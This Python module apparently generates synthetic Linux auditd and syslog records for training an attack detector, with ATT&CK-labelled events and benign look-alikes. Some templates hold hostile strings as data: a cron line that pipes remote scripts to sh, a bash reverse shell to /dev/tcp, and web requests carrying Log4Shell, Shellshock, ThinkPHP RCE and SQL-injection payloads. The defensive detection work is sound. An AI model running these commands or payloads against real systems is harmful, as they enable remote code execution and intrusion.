"""Records of auditd and syslog that show a technique on a Linux host without a command line, and what looks like them."""

from __future__ import annotations

from training.generators.attack_analytics_hosts import ANALYTICS_HOST_RECORDS
from training.generators.attack_linux_recorded import RECORDED_LINUX_EVENTS
from training.generators.attack_linux_rules import LINUX_RULE_EVENTS
from training.generators.event_rows import Row
from training.generators.everyday_linux import line_row
from training.generators.grammar import parse_templates

# `‹msg›` is auditd's stamp, `‹ids›` the process and who runs it, as root or as a user.
_IDS = "ppid=‹pid› pid=‹pid› auid=«1000¦1001¦4294967295» uid=0 gid=0 euid=0 tty=«pts0¦(none)» ses=‹n›"
_WRITE = f"type=SYSCALL ‹msg› arch=c000003e syscall=«257¦2¦82¦87» success=yes exit=«3¦0» items=2 {_IDS}"
_ODD = '«comm="‹name›" exe="«/tmp¦/var/tmp¦/dev/shm¦/home/‹user›»/«.¦»‹name›"¦comm="bash" exe="/usr/bin/bash"¦comm="sh" exe="/usr/bin/dash"¦comm="python3" exe="/usr/bin/python3.9"¦comm="tee" exe="/usr/bin/tee"»'
_PACKAGE = '«comm="dpkg" exe="/usr/bin/dpkg"¦comm="rpm" exe="/usr/bin/rpm"¦comm="dnf" exe="/usr/bin/python3.9"¦comm="ansible" exe="/usr/bin/ansible"»'

LINUX_EVENTS = parse_templates(
    rf"""
# Files that start something or let someone in
lx-preload audit +T1574.006: {_WRITE} {_ODD} key="«preload¦rootkit¦(null)»"↵type=PATH ‹msg› item=1 name="/etc/ld.so.preload" inode=‹pid› dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype=CREATE
lx-preload-library audit +T1574.006: type=PATH ‹msg› item=1 name="«/lib¦/usr/local/lib¦/lib/x86_64-linux-gnu»/lib«selinux_‹n›¦processhider¦‹name›».so" inode=‹pid› dev=fd:00 mode=0100755 ouid=0 ogid=0 nametype=CREATE↵{_WRITE} comm="gcc" exe="/usr/bin/x86_64-linux-gnu-gcc-9" key="preload"
near-lx-linker audit: {_WRITE} comm="ldconfig" exe="/usr/sbin/ldconfig.real" key="libpath"↵type=PATH ‹msg› item=1 name="/etc/ld.so.cache~" inode=‹pid› dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype=CREATE
lx-unit audit +T1543.002: {_WRITE} {_ODD} key="systemd"↵type=PATH ‹msg› item=1 name="«/etc/systemd/system¦/lib/systemd/system¦/usr/lib/systemd/system»/«‹name›¦«sys¦net»d-‹name›».service" inode=‹pid› dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype=CREATE
lx-timer audit +T1053.006: {_WRITE} {_ODD} key="systemd"↵type=PATH ‹msg› item=1 name="/etc/systemd/system/‹name›.timer" inode=‹pid› dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype=CREATE
near-lx-unit audit: {_WRITE} {_PACKAGE} key="systemd"↵type=PATH ‹msg› item=1 name="/lib/systemd/system/«nginx¦docker¦postgresql@¦‹word›».service.dpkg-new" inode=‹pid› dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype=CREATE
lx-cron-file audit +T1053.003: {_WRITE} {_ODD} key="cron"↵type=PATH ‹msg› item=1 name="«/etc/cron.d/«.¦»‹name›¦/etc/cron.«hourly¦daily»/‹name›¦/var/spool/cron/crontabs/root¦/var/spool/cron/root¦/etc/crontab»" inode=‹pid› dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype=CREATE
near-lx-cron-file audit: {_WRITE} «{_PACKAGE}¦comm="vi" exe="/usr/bin/vi"» key="cron"↵type=PATH ‹msg› item=1 name="/etc/cron.«d/sysstat¦daily/logrotate¦d/‹word›».dpkg-new" inode=‹pid› dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype=CREATE
lx-cron-run syslog +T1053.003: CRON[‹pid›]: («root¦www-data¦‹user›») CMD («curl -fsSL http://‹ip›/‹name›.sh | sh¦(wget -q -O- http://‹ip›/‹name› || curl -s http://‹ip›/‹name›) | bash¦/tmp/.‹name›/‹name›¦/dev/shm/.x/‹name› >/dev/null 2>&1¦bash -i >& /dev/tcp/‹ip›/‹pid› 0>&1¦sh -c "$(curl -k https://‹ip›/‹name›)"»)
lx-cron-replaced syslog +T1053.003: crontab[‹pid›]: («www-data¦apache¦nobody¦tomcat¦redis») REPLACE («www-data¦apache¦nobody¦tomcat¦redis»)
near-lx-cron-run syslog: CRON[‹pid›]: («root¦‹user›») CMD («/usr/local/bin/backup-‹project›.sh >> /var/log/backup.log 2>&1¦cd / && run-parts --report /etc/cron.hourly¦[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean¦curl -fsS -m 10 https://hc-ping.com/‹hash› > /dev/null¦/usr/bin/python3 /opt/‹project›/sync.py¦/usr/bin/certbot -q renew»)
near-lx-crontab syslog: crontab[‹pid›]: («root¦‹user›») «LIST¦BEGIN EDIT¦END EDIT» («root¦‹user›»)
lx-shell-start audit +T1546.004: {_WRITE} {_ODD} key="shell_profiles"↵type=PATH ‹msg› item=1 name="«/etc/profile.d/‹name›.sh¦/root/.bashrc¦/etc/bash.bashrc¦/root/.profile»" inode=‹pid› dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype=CREATE
lx-rc-local audit +T1037.004: {_WRITE} {_ODD} key="init"↵type=PATH ‹msg› item=1 name="/etc/«rc.local¦rc.d/rc.local»" inode=‹pid› dev=fd:00 mode=0100755 ouid=0 ogid=0 nametype=CREATE
lx-autostart audit +T1547.013: {_WRITE} {_ODD} key="autostart"↵type=PATH ‹msg› item=1 name="«/home/‹user›/.config¦/etc/xdg»/autostart/‹name›.desktop" inode=‹pid› dev=fd:00 mode=0100644 ouid=1000 ogid=1000 nametype=CREATE
lx-authorized-keys audit +T1098.004: {_WRITE} {_ODD} key="«ssh¦rootkey»"↵type=PATH ‹msg› item=1 name="«/root¦/home/‹user›¦/var/lib/redis¦/var/www»/.ssh/authorized_keys" inode=‹pid› dev=fd:00 mode=0100600 ouid=0 ogid=0 nametype=CREATE
lx-pam-module audit +T1556.003: {_WRITE} {_ODD} key="pam"↵type=PATH ‹msg› item=1 name="«/lib/x86_64-linux-gnu/security/pam_«unix¦‹name›».so¦/usr/lib64/security/pam_unix.so¦/etc/pam.d/«sshd¦common-auth¦su»»" inode=‹pid› dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype=CREATE
near-lx-etc-write audit: {_WRITE} «comm="vim" exe="/usr/bin/vim.basic"¦{_PACKAGE}¦comm="sed" exe="/usr/bin/sed"» key="etcwrite"↵type=PATH ‹msg› item=1 name="/etc/«nginx/sites-available/‹word›¦hosts¦ssl/certs/‹name›.pem¦logrotate.d/‹word›¦resolv.conf»" inode=‹pid› dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype=CREATE
lx-sudoers audit +T1548.003: {_WRITE} {_ODD} key="«actions¦sudoers¦scope»"↵type=PATH ‹msg› item=1 name="/etc/sudoers«.d/‹name›¦»" inode=‹pid› dev=fd:00 mode=0100440 ouid=0 ogid=0 nametype=CREATE
near-lx-sudoers audit: {_WRITE} comm="«visudo¦dpkg»" exe="/usr/«sbin/visudo¦bin/dpkg»" key="actions"↵type=PATH ‹msg› item=1 name="/etc/sudoers.«tmp¦d/README.dpkg-new»" inode=‹pid› dev=fd:00 mode=0100440 ouid=0 ogid=0 nametype=CREATE
lx-setuid-mode audit +T1548.001: type=SYSCALL ‹msg› arch=c000003e syscall=«90¦268» success=yes exit=0 a1=«9ed¦fff» items=1 {_IDS} comm="chmod" exe="/usr/bin/chmod" key="perm_mod"↵type=PATH ‹msg› item=0 name="«/tmp/‹name›¦/usr/bin/«find¦bash¦vim¦python3.9»¦/var/tmp/.‹name›»" inode=‹pid› dev=fd:00 mode=0104755 ouid=0 ogid=0 nametype=NORMAL
near-lx-mode audit: type=SYSCALL ‹msg› arch=c000003e syscall=«90¦268» success=yes exit=0 a1=«1ed¦1a4» items=1 {_IDS} comm="«chmod¦install»" exe="/usr/bin/«chmod¦install»" key="perm_mod"↵type=PATH ‹msg› item=0 name="«/opt/‹project›/run.sh¦/var/www/‹project›/index.php¦/usr/local/bin/‹name›»" inode=‹pid› dev=fd:00 mode=0100755 ouid=0 ogid=0 nametype=NORMAL
# Memory, kernel, secrets
lx-shadow-read audit +T1003.008: type=SYSCALL ‹msg› arch=c000003e syscall=«257¦2» success=«yes¦no» exit=«3¦-13» items=1 {_IDS} «comm="cat" exe="/usr/bin/cat"¦comm="cp" exe="/usr/bin/cp"¦comm="‹name›" exe="/tmp/‹name›"¦comm="python3" exe="/usr/bin/python3.9"¦comm="unshadow" exe="/usr/sbin/unshadow"» key="«shadow¦etcpasswd»"↵type=PATH ‹msg› item=0 name="/etc/«shadow¦shadow-¦gshadow»" inode=‹pid› dev=fd:00 mode=0100640 ouid=0 ogid=42 nametype=NORMAL
near-lx-shadow-read audit: type=SYSCALL ‹msg› arch=c000003e syscall=257 success=yes exit=3 items=1 {_IDS} «comm="sshd" exe="/usr/sbin/sshd"¦comm="sudo" exe="/usr/bin/sudo"¦comm="unix_chkpwd" exe="/usr/sbin/unix_chkpwd"¦comm="passwd" exe="/usr/bin/passwd"¦comm="cron" exe="/usr/sbin/cron"» key="shadow"↵type=PATH ‹msg› item=0 name="/etc/shadow" inode=‹pid› dev=fd:00 mode=0100640 ouid=0 ogid=42 nametype=NORMAL
lx-process-memory audit +T1003.007: type=SYSCALL ‹msg› arch=c000003e syscall=257 success=yes exit=4 items=1 {_IDS} «comm="dd" exe="/usr/bin/dd"¦comm="python3" exe="/usr/bin/python3.9"¦comm="gdb" exe="/usr/bin/gdb"¦comm="‹name›" exe="/dev/shm/‹name›"» key="procmem"↵type=PATH ‹msg› item=0 name="/proc/‹pid›/mem" inode=‹pid› dev=00:05 mode=0100600 ouid=0 ogid=0 nametype=NORMAL
lx-ptrace audit +T1055: type=SYSCALL ‹msg› arch=c000003e syscall=101 success=yes exit=0 a0=«4¦5¦d» a1=‹pid› items=0 {_IDS} {_ODD} key="«code_injection¦data_injection¦register_injection»"
lx-module audit +T1547.006: type=SYSCALL ‹msg› arch=c000003e syscall=«313¦175» success=yes exit=0 items=1 {_IDS} comm="insmod" exe="/usr/bin/kmod" key="modules"↵type=PATH ‹msg› item=0 name="«/tmp¦/root¦/dev/shm¦/home/‹user›»/«‹name›¦rk»" inode=‹pid› dev=fd:00 mode=0100644 nametype=NORMAL
lx-rootkit-kernel syslog +T1014: kernel: [‹pid›.‹pid›] «diamorphine¦reptile_module¦suterusu¦‹name›»: «loading out-of-tree module taints kernel.¦module verification failed: signature and/or required key missing - tainting kernel»
near-lx-kernel-module syslog: kernel: [‹pid›.‹pid›] «nvidia¦vboxdrv¦zfs¦wl¦v4l2loopback¦vmmon¦falcon_lsm_serviceable»: «loading out-of-tree module taints kernel.¦module license 'NVIDIA' taints kernel.¦module verification failed: signature and/or required key missing - tainting kernel»
lx-key-read audit +T1552.004: type=SYSCALL ‹msg› arch=c000003e syscall=257 success=yes exit=3 items=1 {_IDS} {_ODD} key="ssh_keys"↵type=PATH ‹msg› item=0 name="«/root¦/home/‹user›»/.ssh/id_«rsa¦ed25519¦ecdsa»" inode=‹pid› dev=fd:00 mode=0100600 ouid=0 ogid=0 nametype=NORMAL
near-lx-key-read audit: type=SYSCALL ‹msg› arch=c000003e syscall=257 success=yes exit=3 items=1 {_IDS} comm="«ssh¦ssh-add¦git¦scp»" exe="/usr/bin/«ssh¦ssh-add»" key="ssh_keys"↵type=PATH ‹msg› item=0 name="/home/‹user›/.ssh/«id_ed25519¦known_hosts¦config»" inode=‹pid› dev=fd:00 mode=0100600 ouid=1000 ogid=1000 nametype=NORMAL
# Traces removed, tools stopped
lx-log-deleted audit +T1685.006: type=SYSCALL ‹msg› arch=c000003e syscall=«87¦263¦76» success=yes exit=0 items=2 {_IDS} «comm="rm" exe="/usr/bin/rm"¦comm="shred" exe="/usr/bin/shred"¦comm="truncate" exe="/usr/bin/truncate"¦comm="‹name›" exe="/tmp/‹name›"» key="logs"↵type=PATH ‹msg› item=1 name="/var/log/«auth.log¦secure¦wtmp¦btmp¦lastlog¦messages¦audit/audit.log»" inode=‹pid› dev=fd:00 mode=0100640 ouid=0 ogid=4 nametype=DELETE
near-lx-log-rotated audit: type=SYSCALL ‹msg› arch=c000003e syscall=«87¦82» success=yes exit=0 items=2 {_IDS} comm="«logrotate¦systemd-journal¦auditd»" exe="/usr/«sbin/logrotate¦lib/systemd/systemd-journald¦sbin/auditd»" key="logs"↵type=PATH ‹msg› item=1 name="/var/log/«auth.log.5.gz¦secure-20‹n›¦audit/audit.log.4¦journal/‹hash›/system@‹hash›.journal»" inode=‹pid› dev=fd:00 mode=0100640 ouid=0 ogid=4 nametype=DELETE
lx-history-deleted audit +T1070.003: type=SYSCALL ‹msg› arch=c000003e syscall=«87¦263» success=yes exit=0 items=2 {_IDS} «comm="rm" exe="/usr/bin/rm"¦comm="ln" exe="/usr/bin/ln"¦comm="shred" exe="/usr/bin/shred"» key="delete"↵type=PATH ‹msg› item=1 name="«/root¦/home/‹user›»/.bash_history" inode=‹pid› dev=fd:00 mode=0100600 ouid=0 ogid=0 nametype=DELETE
lx-audit-rules-off audit +T1685.004: type=CONFIG_CHANGE ‹msg› auid=«1000¦1001» ses=‹n› op=«remove_rule key="‹word›" list=4¦set audit_enabled=0 old=1» res=1
lx-selinux-off audit +T1685: type=MAC_STATUS ‹msg› enforcing=0 old_enforcing=1 auid=1000 ses=‹n› enabled=1 old-enabled=1 lsm=selinux res=1
near-lx-selinux-on audit: type=«MAC_STATUS ‹msg› enforcing=1 old_enforcing=0¦MAC_POLICY_LOAD ‹msg› policy loaded» auid=«1000¦4294967295» ses=‹n› enabled=1 old-enabled=1 lsm=selinux res=1
near-lx-agent-started syslog: systemd[1]: «Started¦Starting» «CrowdStrike Falcon Sensor¦Wazuh agent¦Sysmon event logger¦Security Auditing Service¦ClamAV virus scanner».
lx-promiscuous syslog +T1040: kernel: [‹pid›.‹pid›] device «eth0¦ens192¦ens33» entered promiscuous mode
near-lx-bridge-port syslog: kernel: [‹pid›.‹pid›] «device «veth‹hash›¦vnet‹n›¦tap‹n›» entered promiscuous mode¦br-‹hash›: port ‹n›(veth‹n›) entered forwarding state»
# Accounts and guessing
lx-user-added syslog +T1136.001: useradd[‹pid›]: new user: name=«‹name›¦«sys¦web»adm‹n›», UID=0, GID=0, home=/«root¦home/‹name›», shell=/bin/bash«, from=/dev/pts/‹n›¦»
lx-user-sudo syslog +T1098.007: «usermod[‹pid›]: add '«‹name›¦www-data¦‹first›»' to group '«sudo¦wheel¦root¦docker»'¦gpasswd[‹pid›]: user «‹name›¦www-data» added by root to group «sudo¦wheel»»
near-lx-user-added syslog: «useradd[‹pid›]: new user: name=«prometheus¦postgres¦systemd-coredump¦_apt¦nginx», UID=9‹n›, GID=9‹n›, home=/«nonexistent¦var/lib/‹word›», shell=/usr/sbin/nologin, from=none¦groupadd[‹pid›]: new group: name=‹word›, GID=9‹n›¦usermod[‹pid›]: add '‹first›' to group '«‹project›¦plugdev¦video»'»
lx-ssh-guesses syslog +T1110.001: sshd[‹pid›]: «message repeated ‹n› times: [ Failed password for «invalid user admin¦root» from ‹ip› port ‹pid› ssh2]¦error: maximum authentication attempts exceeded for «root¦invalid user ‹first›» from ‹ip› port ‹pid› ssh2 [preauth]¦PAM ‹n› more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=‹ip›  user=root¦Disconnecting authenticating user root ‹ip› port ‹pid›: Too many authentication failures [preauth]»
lx-banned syslog +T1110.001: fail2ban.actions[‹pid›]: «NOTICE¦WARNING» [«sshd¦ssh¦dovecot¦postfix-sasl»] «Ban¦Increase Ban» ‹ip›
near-lx-ssh-failed syslog: sshd[‹pid›]: «Failed password for ‹user› from ‹ip› port ‹pid› ssh2¦Connection reset by authenticating user ‹user› ‹ip› port ‹pid› [preauth]¦pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=‹ip›  user=‹user›¦Did not receive identification string from ‹ip› port ‹pid›»
lx-sudo-guesses syslog +T1110.001: sudo: ‹user› : «3¦2» incorrect password attempts ; TTY=pts/‹n› ; PWD=«/tmp¦/home/‹user›» ; USER=root ; COMMAND=«/bin/su¦/bin/bash¦/usr/bin/id»
lx-sudo-shell syslog +T1548.003: sudo: «www-data¦apache¦nobody¦tomcat¦postgres» : TTY=«unknown¦pts/‹n›» ; PWD=«/tmp¦/var/www/html¦/dev/shm» ; USER=root ; COMMAND=«/bin/bash¦/bin/sh¦/usr/bin/vim -c :!/bin/sh¦/usr/bin/find . -exec /bin/sh ;¦/usr/bin/env /bin/sh»
lx-sudo-exploit syslog +T1068: «pkexec[‹pid›]: ‹user›: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/‹n›] [CWD=«/tmp¦/home/‹user›»] [COMMAND=GCONV_PATH=./‹name›.so:. PATH=GCONV_PATH=.]¦kernel: [‹pid›.‹pid›] sudoedit[‹pid›]: segfault at ‹hash› ip 00007f‹n› sp 00007ffe error 4 in libc-2.3‹n›.so»
near-lx-pkexec syslog: «pkexec[‹pid›]: ‹user›: Executing command [USER=root] [TTY=unknown] [CWD=/home/‹user›] [COMMAND=/usr/lib/update-notifier/package-system-locked]¦polkitd[‹pid›]: Registered Authentication Agent for unix-session:‹n›¦su[‹pid›]: pam_unix(su-l:session): session opened for user root(uid=0) by ‹user›(uid=1000)»
# Servers under attack
lx-web-exploit syslog +T1190: «nginx¦httpd¦apache2»[‹pid›]: ‹ip› - - «"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 200¦"GET /?x=${{jndi:ldap://‹ip›:1389/‹name›}} HTTP/1.1" 200¦"GET /index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id HTTP/1.1" 200¦"POST /cgi-bin/‹name›.cgi HTTP/1.1" 200 "() {{ :; }}; /bin/bash -c 'curl http://‹ip›/‹name› | sh'"¦"GET /‹word›.php?id=1+UNION+SELECT+1,user(),load_file('/etc/passwd')--+- HTTP/1.1" 200» ‹pid›
near-lx-web syslog: «nginx¦httpd¦apache2»[‹pid›]: ‹ip› - - "«GET¦POST¦HEAD» /«index.php?id=‹n›¦api/v1/‹word›¦static/‹name›.js¦health¦wp-login.php¦cgi-bin/‹word›.cgi?q=‹word›» HTTP/1.1" «200¦304¦404» ‹pid›
lx-web-file audit +T1505.003: {_WRITE} «comm="apache2" exe="/usr/sbin/apache2"¦comm="php-fpm7.4" exe="/usr/sbin/php-fpm7.4"¦comm="java" exe="/usr/lib/jvm/java-11/bin/java"¦comm="nginx" exe="/usr/sbin/nginx"» key="web"↵type=PATH ‹msg› item=1 name="«/var/www/html/«uploads/¦»‹name›.«php¦phtml»¦/opt/tomcat/webapps/ROOT/‹name›.jsp»" inode=‹pid› dev=fd:00 mode=0100644 ouid=33 ogid=33 nametype=CREATE
near-lx-web-file audit: {_WRITE} «comm="apache2" exe="/usr/sbin/apache2"¦comm="php-fpm7.4" exe="/usr/sbin/php-fpm7.4"¦comm="nginx" exe="/usr/sbin/nginx"» key="web"↵type=PATH ‹msg› item=1 name="/var/«www/html/uploads/‹name›.«jpg¦pdf¦png»¦lib/php/sessions/sess_‹hash›¦cache/nginx/‹n›/‹hash›¦log/nginx/access.log»" inode=‹pid› dev=fd:00 mode=0100644 ouid=33 ogid=33 nametype=CREATE
"""
)


def linux_rows(source: str) -> list[tuple[str, Row]]:
    """The records as rows, a group for each type."""
    return [
        (f"{source}/{one.name}", line_row(one))
        for one in (*LINUX_EVENTS, *RECORDED_LINUX_EVENTS, *LINUX_RULE_EVENTS, *ANALYTICS_HOST_RECORDS)
    ]
